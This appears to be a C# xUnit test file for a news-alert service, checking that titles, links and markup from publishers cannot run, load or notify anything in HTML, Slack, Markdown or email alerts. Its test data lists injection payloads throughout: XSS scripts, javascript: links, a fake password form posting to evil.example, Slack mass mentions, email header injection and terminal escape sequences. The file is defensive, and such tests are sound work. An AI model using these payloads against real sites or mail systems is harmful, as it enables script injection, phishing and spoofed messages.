using NewsMonitor.Core.Alerts;
using Xunit;

namespace NewsMonitor.Tests.Deliveries;

/// <summary>Whatever a publisher writes, it does nothing on any channel: alone, as news of its story, in a digest.</summary>
public sealed class HostileTitlesTests
{
    private static readonly HashSet<string> NoLinks = [];

    public static TheoryData<string> Titles =>
        [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "</h1></td></table><form action=https://evil.example><input name=password>",
            "\" onmouseover=\"alert(1)\" x=\"",
            "' style='background:url(//evil.example)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;iframe src=//evil.example&amp;gt;",
            "&#60;svg onload=alert(1)&#62;",
            "--><!--[if mso]><base href=//evil.example><![endif]-->",
            "</style><style>*{display:none}</style><meta http-equiv=refresh content=0>",
            "<a href=\"java\tscript:alert(1)\">Read</a>",
            "<a href='data:text/html,<script>alert(1)</script>'>Read</a>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(1)>\">",
            "<!channel> <!here> <!everyone|x> <!date^1392734382^x^https://evil.example|y>",
            "<@U1> <#C1> <!subteam^S1> <@&1> <@!1> <:x:1>",
            "<http://evil.example|https://example.org> <mailto:a@evil.example|us>",
            "&lt;!channel&gt; &lt;http://evil.example|x&gt;",
            "@everyone @here @channel @all @editor",
            "[x](javascript:1) ![x](https://evil.example/pixel.png) [x](<https://evil.example>)",
            "\\[x](https://evil.example) \\\\[x](https://evil.example) \\@all \\<@1>",
            "[a [b](https://evil.example) c][1]\n\n[1]: https://evil.example",
            "<https://evil.example> https://evil.example/login www.evil.example",
            "**bold** _it_ `code` ```block``` ~~gone~~ ||hidden|| # big\n# bigger\n> said\n- [ ] done",
            "\u202Egnp.exe\u202C \u2066left\u2069 \u200F\u061C",
            "Iraq\r\nBcc: evil@example.com\r\nContent-Type: text/html\r\n\r\n<b>x",
            "Iraq\n.\r\nMAIL FROM:<evil@example.com>\u2028\u2029\u0085\vX: y\fZ",
            "=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?= =?utf-8?Q?=0D=0ABcc:_evil@example.com?=",
            "{{ item.title }} {{ while true }}{{ end }} ${env:HOME} {0} %n {{DATE(2020-01-06T00:00:00Z,SHORT)}}",
            "\u001B]8;;https://evil.example\u0007x\u001B]8;;\u0007\u001B[2J\0\u0008\uFFFE\uD800",
            "\"},\"text\":\"<!channel>\",\"x\":{\"y\":\"\\u003c",
        ];

    [Theory]
    [MemberData(nameof(Titles))]
    public void What_a_publisher_writes_runs_loads_links_and_calls_nothing_on_any_channel(string title)
    {
        var item = Sample.Item("g-1") with
        {
            Title = title,
            Summary = title,
            Body = title,
            Guid = title,
            Author = title,
            Language = title,
            Tags = [title],
        };
        Assert.Empty(LiveEverywhere(ShownAlert.Of(item, title)));
    }

    [Theory]
    [InlineData("https://example.org/a\"onclick=\"alert(1)")]
    [InlineData("https://example.org/a|x>&<!channel>")]
    [InlineData("https://example.org/a)[x](https://evil.example)")]
    [InlineData("https://example.org/a>](https://evil.example)@everyone")]
    [InlineData("https://example.org/a'%22%3E%3Cscript%3E")]
    [InlineData("javascript:alert(1)//https://example.org")]
    [InlineData("data:text/html,<script>alert(1)</script>")]
    [InlineData("https://user:secret@example.org/")]
    public void No_link_of_a_publisher_says_more_than_where_it_leads(string link)
    {
        var item = Sample.Item("g-1") with { Link = new Uri(link) };
        Assert.Empty(LiveEverywhere(ShownAlert.Of(item, "Example World")));
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<p onclick=alert(1)>x</p>")]
    [InlineData("<a href=\" java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=//evil.example>x</a>")]
    [InlineData("<p style=\"background:url(//evil.example)\">x</p>")]
    [InlineData("<!--x-->")]
    public void Html_that_is_not_escaped_is_seen_to_be_live(string html) =>
        Assert.NotEmpty(LiveMarkup.InHtml($"<p>{html}</p>", "<p>x</p>", NoLinks));

    [Theory]
    [InlineData("<!channel>")]
    [InlineData("<@U1>")]
    [InlineData("<https://evil.example|x>")]
    public void Slack_markup_that_is_not_escaped_is_seen_to_be_live(string markup) =>
        Assert.NotEmpty(LiveMarkup.InSlack($"a {markup} b", NoLinks));

    [Theory]
    [InlineData("[x](javascript:1)")]
    [InlineData("![x](https://evil.example)")]
    [InlineData(@"\\[x](https://evil.example)")]
    [InlineData("@everyone")]
    [InlineData("<@1>")]
    [InlineData("<b>x</b>")]
    [InlineData("https://evil.example")]
    public void Markdown_that_is_not_escaped_is_seen_to_be_live(string markup) =>
        Assert.NotEmpty(LiveMarkup.InMarkdown($"a {markup} b", NoLinks));

    private static IEnumerable<string> LiveEverywhere(Alert alert) =>
        from form in ShownAlert.Forms(alert)
        from channel in ShownAlert.Channels
        from live in ShownAlert.Live(channel, form)
        select $"{channel}, {form.Reason}: {live}";
}
